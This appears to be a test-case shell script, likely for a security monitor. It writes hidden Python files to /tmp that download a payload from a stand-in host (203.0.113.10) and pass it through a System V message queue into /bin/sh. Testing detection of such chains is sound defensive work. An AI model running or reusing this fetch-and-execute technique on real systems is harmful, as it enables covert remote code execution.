#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.take.py <<'END'
import ctypes, subprocess
c = ctypes.CDLL(None); q = c.msgget(0x8e8, 0o1600); b = ctypes.create_string_buffer(5000)
open("/tmp/.ready", "w").close(); n = c.msgrcv(q, b, 4000, 0, 0); subprocess.run(["/bin/sh", "-s"], input=b.raw[8:8 + n]); c.msgctl(q, 0, None)
END
cat >/tmp/.give.py <<'END'
import ctypes, struct, urllib.request
c = ctypes.CDLL(None); m = urllib.request.urlopen("http://203.0.113.10/payload.sh").read(); assert c.msgsnd(c.msgget(0x8e8, 0o1600), struct.pack("q", 1) + m, len(m), 0) == 0
END
setsid python3 /tmp/.take.py & 
wait_for /tmp/.ready; sleep 0.2
python3 /tmp/.give.py
wait_for /tmp/reached
took_place
